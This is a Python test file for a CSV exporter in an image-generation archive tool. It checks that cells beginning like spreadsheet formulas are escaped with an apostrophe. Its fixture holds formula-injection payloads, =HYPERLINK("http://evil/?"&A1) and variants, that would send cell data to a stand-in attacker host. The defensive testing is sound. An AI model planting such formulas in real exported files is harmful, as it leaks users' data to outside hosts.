"""No text of a picture becomes a formula of the spreadsheet that opens a table."""

from __future__ import annotations

import csv
import io
from datetime import date
from decimal import Decimal
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from command_line import Safelight
from safelight.archive import Archive
from safelight.formats.csv_table import csv_cell, write_csv
from safelight.learning import LearningRecord
from safelight.learning.learning_record import ImageOutput

FORMULAS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")
PROMPTS = [f'{sign}HYPERLINK("http://evil/?"&A1)' for sign in FORMULAS] + ["a hill", "'=x", ""]


@pytest.fixture
def safelight(command: Safelight) -> Safelight:
    """An archive whose prompts are formulas."""
    with Archive("safelight").writer() as writer:
        for number, prompt in enumerate(PROMPTS):
            config = {"txt2img": {"prompt": prompt, "model": "-1", "seed": number, "eta": -0.5}}
            outputs = (
                ImageOutput(variant=0, stage="txt2img", sha256=f"{number:064x}", pixel_sha256="",
                            width=8, height=8, path=f"images/{number}.png", seed=number),
            )  # fmt: skip
            writer.write(
                LearningRecord.from_pipeline_context(
                    config,
                    [config],
                    run_id=f"{number:016x}",
                    outputs=outputs,
                    timestamp=f"2026-01-01T00:00:{number:02}Z",
                )
            )
    return command


def table(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        *((sign + "1", f"'{sign}1") for sign in FORMULAS),
        *((number, number) for number in (-1, -0.5, 7, True, Decimal("-2.5"))),
        (None, None), ("", ""), ("a=b", "a=b"), ("'=1", "'=1"), (" =1", " =1"),
        (date(2026, 1, 1), "2026-01-01"), (["=1"], "['=1']"),
    ],
)  # fmt: skip
def test_a_text_that_begins_like_a_formula_is_quoted(value: Any, cell: Any) -> None:
    """Numbers are left alone, negative ones too."""
    assert csv_cell(value) == cell


@given(st.lists(st.tuples(st.text(st.characters(exclude_categories=["Cs"])), st.integers())))
def test_every_row_comes_back_but_for_the_apostrophe(rows: list[tuple[str, int]]) -> None:
    """And raw, to the letter."""
    quoted, raw = io.StringIO(newline=""), io.StringIO(newline="")
    write_csv(quoted, ["=text", "number"], rows)
    write_csv(raw, ["=text", "number"], rows, raw=True)
    told = [(f"'{text}" if text.startswith(FORMULAS) else text, str(n)) for text, n in rows]
    assert list(map(tuple, table(quoted.getvalue()))) == [("'=text", "number"), *told]
    assert table(raw.getvalue())[1:] == [[text, str(n)] for text, n in rows]
    assert not any(row[0].startswith(FORMULAS) for row in table(quoted.getvalue()))


WANTED = [f"'{prompt}" if prompt.startswith(FORMULAS) else prompt for prompt in PROMPTS]


def test_what_is_printed_is_no_formula(safelight: Safelight) -> None:
    """``--csv-raw`` is for programs that take none for a formula."""
    words = ("find", "--columns", "prompt,model,eta", "--sort", "seed")
    rows = table(safelight(*words, "--csv").stdout_bytes.decode())
    assert [row[0] for row in rows[1:]] == WANTED
    assert {tuple(row[1:]) for row in rows[1:]} == {("'-1", "-0.5")}
    rows = table(safelight(*words, "--csv-raw").stdout_bytes.decode())
    assert [row[0] for row in rows[1:]] == PROMPTS
    assert {tuple(row[1:]) for row in rows[1:]} == {("-1", "-0.5")}


def test_a_name_of_a_column_is_no_formula(safelight: Safelight) -> None:
    """Whoever writes the question may have it from elsewhere."""
    question = 'SELECT -1 AS "=1", prompt AS "@x" FROM images LIMIT 1'
    assert safelight("find", "--sql", question, "--csv").stdout.splitlines()[0] == "'=1,'@x"
    assert safelight("find", "--sql", question, "--csv-raw").stdout.splitlines()[0] == "=1,@x"


def test_what_is_exported_is_no_formula(safelight: Safelight, tmp_path: Path) -> None:
    """By the same rule."""
    for words, prompts in (((), WANTED), (("--csv-raw",), PROMPTS)):
        assert safelight("export", "a.csv", *words).exit_code == 0
        head, *rows = table((tmp_path / "a.csv").read_bytes().decode())
        found = sorted(rows, key=lambda row: int(row[head.index("seed")]))
        assert [row[head.index("prompt")] for row in found] == prompts
        assert {row[head.index("eta")] for row in found} == {"-0.5"}
